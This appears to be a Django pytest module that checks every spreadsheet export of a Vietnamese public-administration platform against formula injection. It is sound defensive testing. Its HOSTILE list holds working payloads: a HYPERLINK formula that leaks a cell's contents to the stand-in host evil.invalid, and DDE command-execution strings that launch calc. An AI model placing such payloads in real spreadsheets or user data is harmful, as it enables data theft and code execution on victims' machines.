"""Spreadsheet exports: text typed by people or sent by vendors never becomes a formula.

Every XLSX and CSV the project answers is written by iso_platform.spreadsheets. The routes
that answer one are FOUND here (every view of both URL confs whose code reaches
`spreadsheets.download`), and must all be listed in EXPORTS: a new export without a
hostile-value test fails `test_every_export_route_is_listed`. Each listed export is then
fed hostile values (formulas, DDE payloads, a tab or CR first, blanks first, full-width
equals) through the real services, downloaded, and read back: no cell is a formula, the
hostile text is there as text, numbers and dates stay typed.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from django_tenants.utils import schema_context

from iso_platform import spreadsheets
from tests.quality.conftest import eager  # noqa: F401

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = (
    "eiso",
    "iso_platform",
    "quality",
    "insights",
    "onboarding",
    "tenants",
    "billing",
    "integrations",
    "evaluation",
)
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Chi tiết")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


# --------------------------------------------------------------------------- the writer


def test_text_is_never_a_formula_and_numbers_and_dates_stay_typed():
    moment = timezone.make_aware(dt.datetime(2026, 3, 9, 9, 15))
    rows = [[value, 12, -5, 2.5, moment, dt.date(2026, 3, 9)] for value in HOSTILE]
    body = spreadsheets.xlsx_bytes(rows, title="t", header=["Tên", "a", "b", "c", "d", "e"])
    assert_no_formula_in_xlsx(body, expect=HOSTILE)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [v[0] for v in values] == HOSTILE  # shown exactly as typed
    assert values[0][1:] == (12, -5, 2.5, dt.datetime(2026, 3, 9, 9, 15), dt.datetime(2026, 3, 9))
    assert sheet["A2"].quotePrefix and sheet.freeze_panes == "A2"


def test_csv_text_that_would_start_a_formula_gets_an_apostrophe():
    body = spreadsheets.csv_bytes([[value, -5, 2.5] for value in HOSTILE], header=["Tên", "a", "b"])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    assert rows[1][1:] == ["-5", "2.5"]  # computed numbers are left alone
    assert_no_formula_in_csv(body, expect=HOSTILE)


def test_characters_xml_cannot_hold_and_endless_text_do_not_break_a_download():
    body = spreadsheets.xlsx_bytes([["a\x00b\x1bc", "x" * 40_000]], title="a/b:c*?[]")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet["A1"].value == "abc" and len(sheet["B1"].value) == 32_767


# --------------------------------------------------------------------------- the exports


def plant_audit_trail(world):
    with schema_context(world.agency_a.schema_name):
        from quality.core.models import AuditEvent

        AuditEvent.objects.create(
            actor_label=HOSTILE[0],
            action="edit",
            subject_type="document",
            subject_id=HOSTILE[1],
            subject_label=HOSTILE[2],
            changes={"title": HOSTILE[3]},
        )
    return world.agency_a, world.owner_a, [("/audit-trail/", {"format": "csv"})]


def plant_document_register(world):
    from quality.core.models import Unit
    from quality.documents.models import Document

    with schema_context(world.agency_a.schema_name):
        unit = Unit.objects.create(code="HX", name=HOSTILE[3])
        Document.objects.create(
            doc_type="system_procedure", code="QT.HX.01", title=HOSTILE[0], unit=unit
        )
    downloads = [("/documents/register.xlsx", {}), ("/documents/register.csv", {})]
    return world.agency_a, world.owner_a, downloads


def plant_training_register(world):
    from decimal import Decimal

    from quality.competence import services

    with schema_context(world.agency_a.schema_name):
        session = services.session_create(
            actor=world.owner_a,
            title=HOSTILE[0],
            held_on=timezone.localdate(),
            trainer=HOSTILE[1],
            hours=Decimal(2),
            attendees=[world.member_a],
        )
        services.session_evaluate(
            actor=world.owner_a,
            session=session,
            evaluated_on=timezone.localdate(),
            overall="",
            results={session.attendances.get().pk: ("effective", HOSTILE[2])},
        )
    query = {"year": timezone.localdate().year}
    downloads = [
        ("/competence/sessions/register/", {**query, "format": "xlsx"}),
        ("/competence/sessions/register/", {**query, "format": "csv"}),
    ]
    return world.agency_a, world.owner_a, downloads


def plant_on_time_statistics(world):
    _world, _host, downloads = plant_tracking_book(world)  # a hostile procedure and unit
    return world.agency_a, world.owner_a, [("/procedures/statistics.xlsx", downloads[0][1])]


def plant_tracking_book(world):
    from eiso.testing.procedures import event, make_procedure
    from integrations.services.apply import inbox_apply_pending
    from integrations.services.ingest import events_ingest
    from quality.procedures.models import Procedure

    with schema_context(world.agency_a.schema_name):
        make_procedure(world.owner_a)
        Procedure.objects.filter(code="1.000001").update(name=HOSTILE[0])
        events = [
            event("h1", "received", "2026-03-09 09:15", app="H1", procedure_code="1.000001"),
            event(
                "h2",
                "handed_over",
                "2026-03-09 10:00",
                app="H1",
                from_unit="Bộ phận một cửa",
                to_unit=HOSTILE[1],
            ),
        ]
        events_ingest(items=events, key=None)
        inbox_apply_pending()
    url = "/procedures/applications/tracking-book.xlsx"
    return world.agency_a, world.owner_a, [(url, {"start": "2026-03-01", "end": "2026-03-31"})]


def plant_team_template(world):
    return world.agency_a, world.owner_a, [("/team/import/mau.csv", {})]


def plant_rollout_template(world):
    return "localhost", world.province_admin, [("/rollout/template.csv", {})]


def plant_platform_audit(world):
    from tenants.models import PlatformAuditEvent

    PlatformAuditEvent.objects.create(
        actor_label=HOSTILE[4],
        action="edit",
        subject_type="agency",
        subject_id="1",
        subject_label=HOSTILE[5],
        agency_code="alpha",
        changes={"note": HOSTILE[6]},
    )
    return "localhost", world.province_admin, [("/audit-log/", {"format": "csv"})]


def _statistics(world):
    from eiso.testing.statistics import build
    from insights.models import AgencyStatus, FieldFact
    from tenants.models import Agency

    build(world)
    for agency in (world.agency_a, world.agency_b):
        FieldFact.objects.create(
            agency=agency, month=dt.date(2025, 1, 1), field=HOSTILE[0], completed=1
        )
    AgencyStatus.objects.filter(agency=world.agency_b).update(last_error=HOSTILE[1])
    Agency.objects.filter(pk=world.agency_b.pk).update(name=HOSTILE[7])


def _table_downloads(client, url, query):
    keys = client.get(url, query).context["tables"].keys()
    return [(url, {**query, "table": k, "format": f}) for k in keys for f in ("xlsx", "csv")]


def plant_dashboard(world):
    _statistics(world)
    return "localhost", world.analyst, ("/statistics/", {"year": 2025, "indicator": "late"})


def plant_agency_statistics(world):
    _statistics(world)
    return "localhost", world.analyst, ("/statistics/agencies/beta/", {"months": 60})


def plant_evaluation_weeks(world):
    from evaluation.models import Wave, WaveAgency, WeeklySnapshot
    from tenants.models import Agency

    wave = Wave.objects.create(
        name="Đợt thí điểm",
        order=1,
        planned_start=dt.date(2026, 1, 5),
        planned_go_live=dt.date(2026, 2, 2),
    )
    WaveAgency.objects.create(wave=wave, agency=world.agency_a)
    WeeklySnapshot.objects.create(agency=world.agency_a, week=dt.date(2026, 1, 5), staff=3)
    Agency.objects.filter(pk=world.agency_a.pk).update(name=HOSTILE[2])
    url = f"/evaluation/waves/{wave.pk}/"
    return "localhost", world.province_admin, [(url, {"format": f}) for f in ("xlsx", "csv")]


def plant_service_index(world):
    """A hostile agency name on the province-wide table of the service quality index."""
    from insights.models import ServiceIndexMonth
    from tenants.models import Agency

    ServiceIndexMonth.objects.create(
        agency=world.agency_b, month=dt.date(2025, 1, 1), completed=2, in_time=1, late=1
    )
    Agency.objects.filter(pk=world.agency_b.pk).update(name=HOSTILE[7])
    return "localhost", world.analyst, ("/statistics/service-index/", {"month": "2025-01"})


def plant_agency_service_index(world):
    """Nothing anybody typed reaches the agency's own tables (fixed labels and numbers)."""
    from insights.models import ServiceIndexMonth

    ServiceIndexMonth.objects.create(
        agency=world.agency_a, month=dt.date(2025, 1, 1), received=3, online=1
    )
    return world.agency_a, world.owner_a, ("/service-index/", {"month": "2025-01"})


# route name -> what plants hostile values and which downloads to read (None: a fixed file,
# nothing anybody typed reaches it)
EXPORTS = {
    "portal:audit_trail": (plant_audit_trail, True),
    "procedures:tracking_book": (plant_tracking_book, True),
    "procedures:stats_export": (plant_on_time_statistics, True),
    "documents:register_export": (plant_document_register, True),
    "competence:register_export": (plant_training_register, True),
    "team:import_template": (plant_team_template, False),
    "rollout:template": (plant_rollout_template, False),
    "platform_audit:list": (plant_platform_audit, True),
    "insights:dashboard": (plant_dashboard, True),
    "insights:agency": (plant_agency_statistics, True),
    "evaluation:wave": (plant_evaluation_weeks, True),
    "insights:service_index": (plant_service_index, True),
    "service_index:agency": (plant_agency_service_index, False),
}


@pytest.mark.usefixtures("eager")
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_turns_hostile_text_into_a_formula(name, world, client_for):
    plant, fed = EXPORTS[name]
    host, person, downloads = plant(world)
    client = client_for(host, person)
    if isinstance(downloads, tuple):  # a page of tables: every table, both formats
        downloads = _table_downloads(client, *downloads)
    seen = []
    for url, query in downloads:
        response = client.get(url, query)
        assert response.status_code == 200, (url, query)
        kind = response["Content-Type"]
        assert kind in (spreadsheets.XLSX_TYPE, spreadsheets.CSV_TYPE), kind
        if kind == spreadsheets.XLSX_TYPE:
            seen += assert_no_formula_in_xlsx(response.content)
        else:
            seen += assert_no_formula_in_csv(response.content)
    if fed:  # the hostile values did reach the files (as text), or this test proves nothing
        assert any(h in "\n".join(seen) for h in HOSTILE)


def assert_no_formula_in_xlsx(body: bytes, expect=()) -> list[str]:
    """No <f> element in any sheet, no formula cell; returns the text cells."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(member)), member
    book = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for value in expect:
        assert value in texts
    return texts


def assert_no_formula_in_csv(body: bytes, expect=()) -> list[str]:
    """No field starts a formula, unless it is a plain number; returns the fields."""
    fields = [
        f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for f in row
    ]
    for field in fields:
        if spreadsheets.starts_formula(field):
            assert re.fullmatch(r"-?\d+(\.\d+)?", field), field
    for value in expect:
        assert "'" + value in fields
    return fields


# --------------------------------------------------------------------------- the routes


def _calls_download(node) -> set[str]:
    """Names a function calls: DOWNLOAD for spreadsheets.download, `f` for f(), `.m` for
    self.m()."""
    names = set()
    for call in ast.walk(node):
        if not isinstance(call, ast.Call):
            continue
        func = call.func
        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
            if (func.value.id, func.attr) == ("spreadsheets", "download"):
                names.add("DOWNLOAD")
            elif func.value.id == "self":
                names.add("." + func.attr)
        elif isinstance(func, ast.Name):
            names.add(func.id)
    return names


def _reaches(qualname: str, names: set[str], exporting: set[str]) -> bool:
    """A module function it calls exports, or a method of its own class (self.m())."""
    owner = qualname.rsplit(".", 1)[0] if "." in qualname else None
    own_methods = {
        "." + q.rsplit(".", 1)[1] for q in exporting if owner and q.startswith(owner + ".")
    }
    return bool(names & (exporting | own_methods))


def exporting_definitions() -> set[tuple[str, str]]:
    """(module, qualified name) of every function or method that returns a download,
    itself or through a function or method of its own module."""
    found = set()
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if path.name == "spreadsheets.py" or "migrations" in path.parts:
                continue
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            calls = {}
            for node in ast.parse(path.read_text()).body:
                if isinstance(node, ast.FunctionDef):
                    calls[node.name] = _calls_download(node)
                elif isinstance(node, ast.ClassDef):
                    for item in node.body:
                        if isinstance(item, ast.FunctionDef):
                            calls[f"{node.name}.{item.name}"] = _calls_download(item)
            exporting = {q for q, names in calls.items() if "DOWNLOAD" in names}
            while True:
                more = {q for q, names in calls.items() if _reaches(q, names, exporting)}
                if more <= exporting:
                    break
                exporting |= more
            found |= {(module, q) for q in exporting}
    return found


def _walk(patterns, namespace=""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            ns = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _walk(entry.url_patterns, ns)
        elif isinstance(entry, URLPattern):
            yield f"{namespace}{entry.name}", entry.callback


def export_routes() -> set[str]:
    definitions = exporting_definitions()
    names = set()
    for urlconf in (settings.ROOT_URLCONF, settings.PUBLIC_SCHEMA_URLCONF):
        for name, callback in _walk(get_resolver(urlconf).url_patterns):
            view = getattr(callback, "view_class", None) or getattr(callback, "cls", None)
            owners = view.__mro__ if view else ()
            candidates = {(c.__module__, f"{c.__qualname__}.{m}") for c in owners for m in vars(c)}
            candidates.add((callback.__module__, callback.__qualname__))
            if candidates & definitions:
                names.add(name)
    return names


def test_every_export_route_is_listed():
    assert export_routes() == set(EXPORTS)


FORBIDDEN = [
    (r"csv\.(writer|DictWriter)\(", "a CSV written by hand"),
    (r"openpyxl\.Workbook\(|from openpyxl import .*Workbook", "an XLSX written by hand"),
    (
        r"content_type\s*=\s*[\"'](text/csv|application/vnd\.openxmlformats-officedocument\.s)",
        "a spreadsheet answered without spreadsheets.download",
    ),
]


def test_no_module_writes_a_spreadsheet_by_itself():
    """So the route discovery above (calls of spreadsheets.download) sees every export."""
    offenders = []
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if path.name in ("spreadsheets.py", "untrusted.py"):
                continue
            text = path.read_text()
            offenders += [
                f"{path.relative_to(ROOT)}: {why}"
                for pattern, why in FORBIDDEN
                if re.search(pattern, text)
            ]
    assert offenders == []
